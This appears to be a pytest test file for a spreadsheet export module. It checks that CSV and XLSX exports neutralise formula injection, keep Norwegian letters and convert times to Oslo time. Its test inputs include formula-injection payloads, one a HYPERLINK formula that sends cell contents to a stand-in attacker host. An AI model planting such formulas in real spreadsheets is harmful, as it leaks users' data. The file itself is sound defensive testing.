"""Exports read back the way a spreadsheet would: no formula survives, everything stays readable."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date, datetime
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from core.spreadsheets import neutralise, write_csv, write_xlsx

HEADERS = ["navn", "telefon", "tall", "dato"]
ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klikk her")',
    "@SUM(A1)",
    "+47 22 33 44 55",
    "-1",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("http://evil")', '\'=HYPERLINK("http://evil")'),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("+47 22 33 44 55", "'+47 22 33 44 55"),
        ("-1", "'-1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Kari Nordmann", "Kari Nordmann"),
        ("a=b", "a=b"),  # only the first character matters
        ("", ""),
        (None, ""),
        (-1, "-1"),  # a real number is not text an attacker typed
        (2.5, "2.5"),
        (date(2026, 3, 1), "2026-03-01"),
    ],
)
def test_neutralise_prefixes_only_formula_triggers(value, expected):
    assert neutralise(value) == expected


def read_csv(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf"), "Excel needs the BOM to read UTF-8"
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_csv_is_utf8_with_bom_semicolons_and_neutralised_cells():
    rows = [[attack, "+47 22 33 44 55", -1, date(2026, 3, 1)] for attack in ATTACKS]
    parsed = read_csv(write_csv(rows, HEADERS))
    assert parsed[0] == HEADERS
    assert [row[0] for row in parsed[1:]] == ["'" + attack for attack in ATTACKS]
    assert all(row[1] == "'+47 22 33 44 55" for row in parsed[1:])
    assert all(row[2] == "-1" for row in parsed[1:])
    assert all(row[3] == "2026-03-01" for row in parsed[1:])
    # Not a single text cell a spreadsheet would evaluate (column 3 holds a real number).
    text_cells = [cell for row in parsed for index, cell in enumerate(row) if index != 2]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in text_cells)


def test_csv_keeps_norwegian_letters_and_quotes_separators():
    parsed = read_csv(write_csv([["Ærlige Øystein Åsen", 'Sier "hei"; og går', "linje\nto"]], ["a", "b", "c"]))
    assert parsed[1] == ["Ærlige Øystein Åsen", 'Sier "hei"; og går', "linje\nto"]


def test_csv_writes_datetimes_in_norwegian_time(settings):
    settings.TIME_ZONE = "Europe/Oslo"
    moment = datetime(2026, 6, 30, 22, 15, tzinfo=ZoneInfo("UTC"))
    parsed = read_csv(write_csv([[moment, None, True]], ["når", "tom", "ja"]))
    assert parsed[1] == ["2026-07-01 00:15", "", "ja"]


def read_xlsx(content: bytes):
    workbook = load_workbook(io.BytesIO(content))
    return workbook.worksheets[0]


def test_xlsx_stores_formula_lookalikes_as_text_exactly():
    sheet = read_xlsx(write_xlsx([[attack, "+47 22 33 44 55", -1, None] for attack in ATTACKS], HEADERS))
    assert [cell.value for cell in sheet[1]] == HEADERS
    for number, attack in enumerate(ATTACKS, start=2):
        name, phone, figure, _empty = sheet[number]
        # The text exactly as typed, as a string cell: no apostrophe, and no formula.
        assert (name.value, name.data_type) == (attack, "s")
        assert name.quotePrefix is True
        assert (phone.value, phone.data_type) == ("+47 22 33 44 55", "s")
        assert (figure.value, figure.data_type) == (-1, "n")


def test_xlsx_has_no_formula_element_at_all():
    content = write_xlsx([['=HYPERLINK("http://evil")', "@SUM(A1)", "=1+1"]], ["a", "b", "c"])
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    assert "HYPERLINK" in sheet_xml


def test_xlsx_keeps_text_norwegian_letters_and_dates_as_dates(settings):
    settings.TIME_ZONE = "Europe/Oslo"
    moment = datetime(2026, 1, 15, 9, 30, tzinfo=ZoneInfo("UTC"))
    sheet = read_xlsx(write_xlsx([["Ærlige Øystein Åsen", date(2026, 3, 1), moment, "-1"]], ["a", "b", "c", "d"]))
    name, day, when, text_number = sheet[2]
    assert name.value == "Ærlige Øystein Åsen"
    assert day.is_date and day.value.date() == date(2026, 3, 1)
    assert when.is_date and when.value == datetime(2026, 1, 15, 10, 30)  # Oslo wall-clock time
    assert (text_number.value, text_number.data_type) == ("-1", "s")


def test_xlsx_drops_control_characters_that_would_break_the_file():
    sheet = read_xlsx(write_xlsx([["Kari\x07 Lege\x00"]], ["navn"]))
    assert sheet["A2"].value == "Kari Lege"
